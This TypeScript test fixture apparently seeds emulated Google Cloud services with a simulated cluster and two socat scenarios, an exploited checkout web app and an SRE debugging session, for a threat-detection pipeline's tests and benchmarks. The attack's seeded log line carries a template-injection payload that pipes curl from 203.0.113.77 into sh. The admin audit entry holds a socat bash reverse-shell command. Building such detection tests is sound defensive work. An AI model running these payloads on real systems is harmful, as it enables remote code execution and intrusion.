/**
 * A whole organization on loopback: the SCC, GKE, Cloud Logging and
 * Kubernetes emulators, seeded coherently around two socat findings on one
 * cluster — an attack (checkout: a reverse shell out of an exploited web
 * app, no kubectl exec, other CTD findings on the workload) and an admin
 * debugging session (ledger: an SRE's kubectl exec running socat to the VPC
 * bastion). Used by the full pipeline tests, the demo and the benchmarks.
 * No jest import: scripts use it too.
 */
import { startContactsEmulator, type ContactsEmulator } from '../emulators/contacts-emulator.js';
import { startGkeEmulator, type GkeEmulator } from '../emulators/gke-emulator.js';
import { startKubeEmulator, type KubeEmulator, type KubeObject } from '../emulators/kube-emulator.js';
import { startLoggingEmulator, type LoggingEmulator, type SeedLogEntry } from '../emulators/logging-emulator.js';
import { startSccEmulator, type SccEmulator } from '../emulators/scc-emulator.js';
import { notificationFixture } from './fixtures.js';
import { CTD_SOURCE, OWN_SOURCE, seedOriginal, seedSources } from './scc-scenario.js';

export const PROJECT = 'shop-prod-4711';
export const PROJECT_NUMBER = '987654321098';
export const LOCATION = 'us-central1';
export const CLUSTER = 'shop-prod';
export const CLUSTER_RESOURCE = `//container.googleapis.com/projects/${PROJECT}/locations/${LOCATION}/clusters/${CLUSTER}`;
export const ADMIN_PRINCIPAL = 'alice.sre@example.com';

export interface World {
  scc: SccEmulator;
  gke: GkeEmulator;
  logging: LoggingEmulator;
  kube: KubeEmulator;
  contacts: ContactsEmulator;
  /** The function's environment for this world (every API emulated). */
  env: Record<string, string>;
  stop(): Promise<void>;
}

export interface Scenario {
  /** The NotificationMessage (proto3 JSON), eventTime set relative to the world's clock. */
  notification: Record<string, any>;
  findingName: string;
}

export async function startWorld(): Promise<World> {
  const [scc, gke, logging, kube, contacts] = await Promise.all([
    startSccEmulator(),
    startGkeEmulator(),
    startLoggingEmulator({ projectNumbers: { [PROJECT_NUMBER]: PROJECT } }),
    startKubeEmulator(),
    startContactsEmulator(),
  ]);
  contacts.seedProject({ projectNumber: PROJECT_NUMBER, projectId: PROJECT, folders: ['556677889900'], organization: '123456789012' });
  contacts.addContact(`projects/${PROJECT_NUMBER}`, { email: 'payments-security@example.com', categories: ['SECURITY'] });
  contacts.addContact('organizations/123456789012', { email: 'secops@example.com', categories: ['SECURITY', 'TECHNICAL'] });
  contacts.addContact('organizations/123456789012', { email: 'billing@example.com', categories: ['BILLING'] });
  seedSources(scc);
  gke.seedCluster(clusterObject(kube), { project: PROJECT, projectNumber: PROJECT_NUMBER });
  for (const object of clusterObjects()) kube.seed(object);
  return {
    scc,
    gke,
    logging,
    kube,
    contacts,
    env: {
      SCC_SOURCE_NAME: OWN_SOURCE,
      SCC_EMULATOR_HOST: scc.endpoint,
      GKE_EMULATOR_HOST: gke.endpoint,
      LOGGING_EMULATOR_HOST: logging.endpoint,
      CONTACTS_EMULATOR_HOST: contacts.endpoint,
      LOG_LEVEL: 'info',
      ADMIN_PRINCIPALS: ADMIN_PRINCIPAL,
      TRUSTED_IMAGE_REGISTRIES: `us-docker.pkg.dev/${PROJECT}/`,
    },
    async stop() {
      await Promise.all([scc.stop(), gke.stop(), logging.stop(), kube.stop(), contacts.stop()]);
    },
  };
}

/** The cluster with Calico's NetworkPolicy enforcement on, for the demo's approved block-c2 (the default world's is off). */
export function enforceNetworkPolicy(world: World): void {
  world.gke.seedCluster({ ...clusterObject(world.kube), networkPolicy: { provider: 'CALICO', enabled: true } }, { project: PROJECT, projectNumber: PROJECT_NUMBER });
}

function clusterObject(kube: KubeEmulator): Record<string, unknown> {
  return {
    name: CLUSTER,
    location: LOCATION,
    locations: [`${LOCATION}-a`, `${LOCATION}-b`, `${LOCATION}-c`],
    endpoint: kube.access.endpoint,
    masterAuth: { clusterCaCertificate: kube.access.caCertificate },
    network: 'shop-vpc',
    subnetwork: 'shop-prod-nodes',
    clusterIpv4Cidr: '10.52.0.0/14',
    servicesIpv4Cidr: '10.56.0.0/20',
    ipAllocationPolicy: { useIpAliases: true, clusterIpv4CidrBlock: '10.52.0.0/14', servicesIpv4CidrBlock: '10.56.0.0/20' },
    networkPolicy: { provider: 'CALICO', enabled: false },
    workloadIdentityConfig: { workloadPool: `${PROJECT}.svc.id.goog` },
    privateClusterConfig: { enablePrivateNodes: true, enablePrivateEndpoint: false, masterIpv4CidrBlock: '172.16.0.32/28' },
    loggingConfig: { componentConfig: { enableComponents: ['SYSTEM_COMPONENTS', 'WORKLOADS'] } },
    nodePools: [
      {
        name: 'default-pool',
        instanceGroupUrls: [
          `https://www.googleapis.com/compute/v1/projects/${PROJECT}/zones/${LOCATION}-b/instanceGroupManagers/gke-shop-prod-default-pool-3f2a9c1e-grp`,
        ],
      },
    ],
    resourceLabels: { env: 'prod', team: 'payments-platform', 'cost-center': 'cc-4411' },
    currentMasterVersion: '1.33.5-gke.1201000',
    status: 'RUNNING',
  };
}

const meta = (name: string, extra: Record<string, unknown> = {}) => ({ name, uid: `uid-${name}`, creationTimestamp: '2026-11-26T18:02:40Z', ...extra });
const owner = (apiVersion: string, kind: string, name: string) => ({ apiVersion, kind, name, uid: `uid-${name}`, controller: true });

function node(name: string, zone: string, instanceId: string): KubeObject {
  return {
    apiVersion: 'v1',
    kind: 'Node',
    metadata: meta(name, {
      labels: { 'cloud.google.com/gke-nodepool': 'default-pool', 'topology.kubernetes.io/zone': zone, 'kubernetes.io/hostname': name },
      annotations: { 'container.googleapis.com/instance_id': instanceId },
    }),
    status: { nodeInfo: { osImage: 'Container-Optimized OS from Google', kernelVersion: '6.6.93+', containerRuntimeVersion: 'containerd://1.7.28' } },
  } as KubeObject;
}

function deploymentChain(ns: string, app: string, hash: string, labels: Record<string, string>): KubeObject[] {
  return [
    {
      apiVersion: 'apps/v1',
      kind: 'ReplicaSet',
      metadata: { ...meta(`${app}-${hash}`), namespace: ns, labels: { app, 'pod-template-hash': hash }, ownerReferences: [owner('apps/v1', 'Deployment', app)] },
    },
    { apiVersion: 'apps/v1', kind: 'Deployment', metadata: { ...meta(app), namespace: ns, labels: { app, ...labels } } },
  ] as KubeObject[];
}

function pod(ns: string, name: string, app: string, hash: string, container: string, image: string, nodeName: string, securityContext: Record<string, unknown>): KubeObject {
  return {
    apiVersion: 'v1',
    kind: 'Pod',
    metadata: { ...meta(name), namespace: ns, labels: { app, 'pod-template-hash': hash }, ownerReferences: [owner('apps/v1', 'ReplicaSet', `${app}-${hash}`)] },
    spec: {
      nodeName,
      serviceAccountName: app,
      containers: [{ name: container, image, securityContext }],
    },
    status: {
      phase: 'Running',
      startTime: '2026-11-26T18:02:44Z',
      containerStatuses: [{ name: container, image, imageID: `${image.split(':')[0]}@sha256:5b0c7a4f2e1d3c9b8a7f6e5d4c3b2a1f0e9d8c7b6a5f4e3d2c1b0a9f8e7d6c5b`, restartCount: 0, ready: true }],
    },
  } as KubeObject;
}

function clusterObjects(): KubeObject[] {
  return [
    node('gke-shop-prod-default-pool-3f2a9c1e-k8vz', `${LOCATION}-b`, '4820981273410973451'),
    node('gke-shop-prod-default-pool-3f2a9c1e-m2tq', `${LOCATION}-c`, '4820981273410988812'),
    { apiVersion: 'v1', kind: 'Namespace', metadata: { ...meta('shop'), labels: { team: 'payments', 'kubernetes.io/metadata.name': 'shop' } } } as KubeObject,
    { apiVersion: 'v1', kind: 'Namespace', metadata: { ...meta('payments'), labels: { team: 'ledger', 'kubernetes.io/metadata.name': 'payments' }, annotations: { 'example.com/oncall': 'ledger-oncall@example.com' } } } as KubeObject,
    ...deploymentChain('shop', 'checkout', '7d9fb6c5d4', { team: 'payments', owner: 'payments-oncall' }),
    pod('shop', 'checkout-7d9fb6c5d4-x2lqp', 'checkout', '7d9fb6c5d4', 'checkout', 'us-docker.pkg.dev/shop-prod-4711/apps/checkout:1.14.2', 'gke-shop-prod-default-pool-3f2a9c1e-k8vz', { privileged: true }),
    ...deploymentChain('payments', 'ledger', '6f8b9c7d5', { team: 'ledger', contact: 'ledger-oncall' }),
    pod('payments', 'ledger-6f8b9c7d5-p4k2m', 'ledger', '6f8b9c7d5', 'ledger', 'us-docker.pkg.dev/shop-prod-4711/apps/ledger:3.2.0', 'gke-shop-prod-default-pool-3f2a9c1e-m2tq', { runAsNonRoot: true, runAsUser: 10001 }),
  ];
}

const at = (base: number, offsetSeconds: number) => new Date(base + offsetSeconds * 1000).toISOString();

function containerLog(ns: string, podName: string, container: string, time: string, text: string, severity: SeedLogEntry['severity'] = 'INFO'): SeedLogEntry {
  return {
    logName: `projects/${PROJECT}/logs/stdout`,
    resource: { type: 'k8s_container', labels: { project_id: PROJECT, location: LOCATION, cluster_name: CLUSTER, namespace_name: ns, pod_name: podName, container_name: container } },
    timestamp: time,
    severity,
    textPayload: text,
  };
}

/**
 * A Kubernetes admin-activity audit entry of the world's cluster, as GKE
 * writes it (test/fixtures/gke-audit/SOURCES.md): the authorizer's decision
 * and an exec's command are LogEntry labels, the resourceName carries no
 * query, a success has an empty status and authorizationInfo granted: true.
 */
export function auditEntry(time: string, methodName: string, resourceName: string, principal: string, callerIp: string, userAgent: string, request?: Record<string, unknown>, command?: string): SeedLogEntry {
  return {
    logName: `projects/${PROJECT}/logs/cloudaudit.googleapis.com%2Factivity`,
    resource: { type: 'k8s_cluster', labels: { project_id: PROJECT, location: LOCATION, cluster_name: CLUSTER } },
    timestamp: time,
    severity: 'NOTICE',
    labels: {
      'authorization.k8s.io/decision': 'allow',
      'authorization.k8s.io/reason': '',
      ...(command === undefined ? {} : { 'command.gke.io/command': command }),
    },
    protoPayload: {
      serviceName: 'k8s.io',
      methodName,
      resourceName,
      authenticationInfo: { principalEmail: principal },
      authorizationInfo: [{ granted: true, permission: methodName, resource: resourceName }],
      requestMetadata: { callerIp, callerSuppliedUserAgent: userAgent },
      status: {},
      ...(request ? { request } : {}),
    },
  };
}

function nodeLog(instanceId: string, time: string, text: string): SeedLogEntry {
  return {
    logName: `projects/${PROJECT}/logs/serialconsole.googleapis.com%2Fserial_port_1_output`,
    resource: { type: 'gce_instance', labels: { project_id: PROJECT, instance_id: instanceId, zone: `${LOCATION}-b` } },
    timestamp: time,
    severity: 'INFO',
    textPayload: text,
  };
}

/**
 * A node component's journald line as GKE ships it under k8s_node: upper-case
 * MESSAGE next to journald's own fields, no severity (shape of the public GKE
 * samples in SEKOIA-IO/documentation, "gke_container_runtime2.json"; values ours).
 */
function nodeComponentLog(node: string, time: string, log: 'kubelet' | 'container-runtime', message: string): SeedLogEntry {
  const unit = log === 'kubelet' ? { SYSLOG_IDENTIFIER: 'kubelet', _COMM: 'kubelet', _SYSTEMD_UNIT: 'kubelet.service' } : { SYSLOG_IDENTIFIER: 'containerd', _COMM: 'containerd', _SYSTEMD_UNIT: 'containerd.service' };
  return {
    logName: `projects/${PROJECT}/logs/${log}`,
    resource: { type: 'k8s_node', labels: { project_id: PROJECT, location: `${LOCATION}-b`, cluster_name: CLUSTER, node_name: node } },
    timestamp: time,
    jsonPayload: { MESSAGE: message, ...unit, _TRANSPORT: 'stdout', _HOSTNAME: node, PRIORITY: '6', SYSLOG_FACILITY: '3', _UID: '0', _GID: '0' },
  };
}

/** The attack: checkout's web app exploited, socat calling out with a pty shell; no kubectl exec. */
export function seedAttack(world: World, eventTime: Date): Scenario {
  const notification = structuredClone(notificationFixture('socat-v2'));
  notification.finding.eventTime = eventTime.toISOString();
  const t = eventTime.getTime();
  seedOriginal(world.scc, notification);
  const related = (id: string, category: string, podName: string, offset: number) =>
    world.scc.addFinding(`${CTD_SOURCE}/locations/global/findings/${id}`, {
      resourceName: CLUSTER_RESOURCE,
      category,
      state: 'ACTIVE',
      severity: 'HIGH',
      findingClass: 'THREAT',
      eventTime: new Date(t + offset * 1000),
      parentDisplayName: 'Container Threat Detection',
      sourceProperties: { Pod_Namespace: 'shop', Pod_Name: podName, Container_Name: 'checkout' },
    });
  related('b1c2d3e4f5a60718293a4b5c6d7e8f91', 'Execution: Added Binary Executed', 'checkout-7d9fb6c5d4-x2lqp', -95);
  related('c1d2e3f4a5b60718293a4b5c6d7e8f92', 'Execution: Malicious Script Executed', 'checkout-7d9fb6c5d4-h7r2n', -600);
  world.logging.seed([
    containerLog('shop', 'checkout-7d9fb6c5d4-x2lqp', 'checkout', at(t, -300), 'GET /healthz 200 1ms'),
    containerLog('shop', 'checkout-7d9fb6c5d4-x2lqp', 'checkout', at(t, -130), 'POST /api/v1/import 500 template render failed: ${T(java.lang.Runtime).getRuntime().exec("sh -c curl -fsSL http://203.0.113.77/s|sh")}', 'ERROR'),
    containerLog('shop', 'checkout-7d9fb6c5d4-x2lqp', 'checkout', at(t, -129), 'retrying upstream with header Authorization: Bearer ya29.a0AfH6SMBx3kQ9demoTokenValue0123456789abcdefghij', 'WARNING'),
    containerLog('shop', 'checkout-7d9fb6c5d4-x2lqp', 'checkout', at(t, -20), 'GET /healthz 200 1ms'),
    auditEntry(at(t, -1500), 'io.k8s.core.v1.pods.create', 'core/v1/namespaces/shop/pods/checkout-7d9fb6c5d4-x2lqp', 'system:serviceaccount:kube-system:replicaset-controller', '172.16.0.34', 'kube-controller-manager/v1.33.5'),
    nodeLog('4820981273410973451', at(t, -60), 'kernel: audit: type=1400 apparmor="DENIED" operation="exec" profile="cri-containerd.apparmor.d" name="/usr/bin/socat"'),
    nodeLog('4820981273410973451', at(t, 30), 'google_guest_agent: Updating keys for user gke-4c7e.'),
    nodeComponentLog('gke-shop-prod-default-pool-3f2a9c1e-k8vz', at(t, -2), 'container-runtime', 'time="' + at(t, -2) + '" level=info msg="StartContainer for \\"5f1c\\" returns successfully"'),
  ]);
  return { notification, findingName: notification.finding.name };
}

/** The admin session: an allow-listed SRE exec'd into ledger and ran socat to the VPC bastion. */
export function seedAdmin(world: World, eventTime: Date): Scenario {
  const notification = structuredClone(notificationFixture('socat-admin-v2'));
  notification.finding.eventTime = eventTime.toISOString();
  const t = eventTime.getTime();
  seedOriginal(world.scc, notification);
  const execResource = 'core/v1/namespaces/payments/pods/ledger-6f8b9c7d5-p4k2m/exec';
  world.logging.seed([
    containerLog('payments', 'ledger-6f8b9c7d5-p4k2m', 'ledger', at(t, -400), 'ledger reconciliation run 4411 finished in 812ms'),
    containerLog('payments', 'ledger-6f8b9c7d5-p4k2m', 'ledger', at(t, -90), 'db pool: connection to postgres://ledger:hunter2-not-real@10.20.4.17:5432/ledger timed out'),
    // kubectl 1.33 streams exec over WebSocket: GKE logs it as pods.exec.get (kubernetes/kubernetes PR 116778).
    auditEntry(at(t, -45), 'io.k8s.core.v1.pods.exec.get', execResource, ADMIN_PRINCIPAL, '198.51.100.23', 'kubectl/v1.33.1 (linux/amd64) kubernetes/8adc0f0', undefined, 'socat TCP:10.128.0.15:9001 EXEC:/bin/bash,pty,stderr'),
    nodeLog('4820981273410988812', at(t, -10), 'systemd[1]: Started cri-containerd-5f1c.scope.'),
  ]);
  return { notification, findingName: notification.finding.name };
}
